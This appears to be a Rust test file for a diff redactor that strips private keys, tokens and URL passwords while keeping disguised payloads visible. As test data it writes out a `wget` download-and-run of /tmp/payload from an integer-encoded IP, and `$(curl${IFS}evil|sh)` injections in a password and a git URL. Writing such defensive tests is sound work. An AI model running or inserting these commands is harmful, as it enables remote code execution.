use super::*;

fn diff(lines: &[&str]) -> Vec<String> {
    lines.iter().map(|line| (*line).to_owned()).collect()
}

#[test]
fn a_key_is_found_behind_the_signs_of_a_diff() {
    let body = "MIIEpAIBAAKCAQEA0123456789abcdefghijABCDEFGHIJ0123456789";
    let key = [
        " before",
        "-----BEGIN",
        " -----BEGIN RSA PRIVATE KEY-----",
        &format!(" {body}"),
        &format!("-{body}"),
        "------END RSA PRIVATE KEY-----",
        " after",
        "",
    ];
    let shown = without_credentials(&diff(&key));
    assert_eq!(shown.len(), key.len());
    assert!(!shown.concat().contains("MIIE"), "{shown:?}");
    assert_eq!((shown[0].as_str(), shown[6].as_str(), shown[7].as_str()), (" before", " after", ""));
    assert!(shown[2].starts_with(" [redacted:"), "{shown:?}");
}

#[test]
fn a_script_does_not_hide_as_a_private_key() {
    let dashes = "-----";
    let opening = format!("+: {dashes}BEGIN RSA PRIVATE KEY{dashes}");
    let closing = format!("+{dashes}END RSA PRIVATE KEY{dashes}");
    let script = ["+wget -O /tmp/payload http://3232235777/payload", "+sh /tmp/payload"];
    let whole = [opening.as_str(), script[0], script[1], closing.as_str()];
    assert_eq!(without_credentials(&diff(&whole)), whole);
    let without_end = [opening.as_str(), script[0], script[1]];
    assert_eq!(without_credentials(&diff(&without_end)), without_end);
    let putty = ["+: Private-Lines: 2", script[0], script[1]];
    assert_eq!(without_credentials(&diff(&putty)), putty);
    let header =
        [opening.as_str(), "+Command: sh /tmp/payload", "+", &format!("+{}", "a1B2".repeat(15)), &closing];
    assert_eq!(without_credentials(&diff(&header)), header);
}

#[test]
fn a_path_does_not_hide_as_a_token() {
    let lines =
        ["+export API_TOKEN=/tmp/payload1x", "+PASSWORD=~/payload1x", "+bearer /tmp/payload/abc123456789"];
    assert_eq!(without_credentials(&diff(&lines)), lines);
    let token = without_credentials(&diff(&["+export API_TOKEN=q8Zx71LmPw02"]));
    assert_eq!(token, ["+export API_TOKEN=[redacted:token]"]);
}

#[test]
fn a_command_does_not_hide_as_a_password() {
    let command = "+password = \"x$(curl${IFS}evil|sh)\"";
    let url = "+git clone https://u:$(curl${IFS}evil|sh)@host/x";
    assert_eq!(without_credentials(&diff(&[command, url])), [command, url]);
    let removed = without_credentials(&diff(&["-git clone https://u:hunter2@host/x"]));
    assert_eq!(removed, ["-git clone https://u:[redacted:url-password]@host/x"]);
}
